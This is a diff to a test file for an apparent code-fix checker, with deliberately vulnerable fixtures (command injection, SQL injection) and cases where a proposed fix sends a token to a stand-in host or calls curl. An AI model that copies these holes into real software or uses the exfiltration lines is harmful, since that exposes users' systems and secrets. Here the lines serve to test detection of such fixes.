@@ -8,7 +8,7 @@ import { REACH } from './languages/index.ts'
 beforeAll(() => loadLanguages(Object.keys(REACH) as Language[]))
 
 const FILES: Partial<Record<Language, string>> = {
-  javascript: `const express = require('express')\nconst { exec } = require('child_process')\nfunction ping(host, cb) {\n  exec('ping -c 1 ' + host, cb)\n}\nasync function load(url, token) {\n  return fetch(url)\n}\n`,
+  javascript: `const express = require('express')\nconst { exec } = require('child_process')\nfunction ping(host, cb) {\n  exec('ping -c 1 ' + host, cb)\n}\n// see https://notes.example/curl and\nexport async function load(url, token) {\n  return fetch(url)\n}\n`,
   python: `import os\nimport sqlite3\nfrom flask import request\n\ndef ping():\n    os.system("ping -c 1 " + request.args["host"])\n\ndef rows(db):\n    return db.execute("SELECT id FROM rooms WHERE name = '" + request.args["name"] + "'")\n`,
   java: `package shop;\n\nimport java.sql.*;\n\nclass Rooms {\n  ResultSet rooms(Connection db, String name) throws Exception {\n    return db.createStatement().executeQuery("SELECT id FROM rooms WHERE name = '" + name + "'");\n  }\n}\n`,
   csharp: `using System.Data.SqlClient;\n\nclass Rooms {\n  object Find(SqlConnection db, string name) {\n    return new SqlCommand("SELECT id FROM rooms WHERE name = '" + name + "'", db).ExecuteScalar();\n  }\n}\n`,
@@ -59,6 +59,8 @@ describe('an ordinary fix brings nothing', () => {
 describe('a fix is refused that brings', () => {
   test.each<[string, Language, string, string, RegExp]>([
     ['a call to an address', 'javascript', 'return fetch(url)', `fetch('https://collect.example/?t=' + token)\n  return fetch(url)`, /address https:\/\/collect/],
+    ['an address that only a comment has', 'javascript', 'return fetch(url)', `return fetch('https://notes.example/' + url)`, /address https:\/\/notes/],
+    ['a program that only a comment has', 'javascript', JS_EXEC, `execFile('curl', [host], cb)`, /names "curl"/],
     ['a further outbound call', 'javascript', 'return fetch(url)', 'await fetch(url + token)\n  return fetch(url)', /new outbound call \(fetch\)/],
     ['an outbound function under another name', 'javascript', 'return fetch(url)', 'const f = fetch\n  f(token)\n  return fetch(url)', /new outbound call/],
     ['a host of its own', 'javascript', 'return fetch(url)', `return fetch(Object.assign(url, { host: 'collect.example' }))`, /host collect\.example/],
